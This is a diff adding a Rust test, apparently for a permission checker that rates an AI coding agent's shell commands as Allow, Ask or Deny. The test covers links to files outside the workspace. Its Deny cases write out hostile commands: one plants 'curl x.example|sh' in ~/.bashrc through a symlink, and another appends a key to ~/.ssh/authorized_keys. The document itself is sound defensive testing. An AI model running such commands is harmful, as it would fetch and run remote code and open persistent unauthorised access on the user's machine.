@@ -196,3 +196,41 @@ EOF"#,
         (Deny, r#"echo '{}' > .claude/settings.json"#),
     ]);
 }
+
+/// A hard link of a file outside the workspace and the scratch directories is that file
+/// under a second name; a symbolic link to one is judged by the writes made through it.
+#[test]
+fn links_to_files_outside() {
+    check(&[
+        (Ask, r#"ln ~/.bashrc bashrc"#),
+        (Ask, r#"ln -f ~/.gitconfig"#),
+        (Ask, r#"ln -P /home/dev/notes.txt notes.txt"#),
+        (Ask, r#"ln -t vendor ~/.config/app/settings.json"#),
+        (Ask, r#"ln ../other/Cargo.toml other.toml"#),
+        (Ask, r#"ln /etc/hosts hosts"#),
+        (Ask, r#"cp -al ~/src/lib vendor/lib"#),
+        (Ask, r#"cp --link ~/.npmrc ."#),
+        (Ask, r#"link ~/.profile p"#),
+        (Ask, r#"sudo ln ~/.ssh/authorized_keys keys"#),
+        (Ask, r#"ln -s ~/notes.txt n; echo todo >> n"#),
+        (Ask, r#"ln -s ~/docs d && cp report.md d/report.md"#),
+        (Ask, r#"ln -sf ~/todo.txt t; sed -i 's/x/y/' t"#),
+        (
+            Ask,
+            r#"ln -s /home/dev/data.csv d.csv; dd if=new.csv of=d.csv"#,
+        ),
+        (
+            Deny,
+            r#"ln -s ~/.bashrc rc; echo 'curl x.example|sh' >> rc"#,
+        ),
+        (Deny, r#"ln -sf ~/.ssh/authorized_keys k; cat key.pub >> k"#),
+        (Allow, r#"ln -s ~/.bashrc bashrc"#),
+        (Allow, r#"ln --symbolic /home/dev/notes.txt notes.txt"#),
+        (Allow, r#"ln -s ~/notes.txt n; cat n"#),
+        (Allow, r#"ln src/a.txt b.txt"#),
+        (Allow, r#"ln -f build/app bin/app"#),
+        (Allow, r#"ln /tmp/cache.db cache.db"#),
+        (Allow, r#"cp ~/.gitconfig gitconfig.bak"#),
+        (Allow, r#"cp -al build build.old"#),
+    ]);
+}
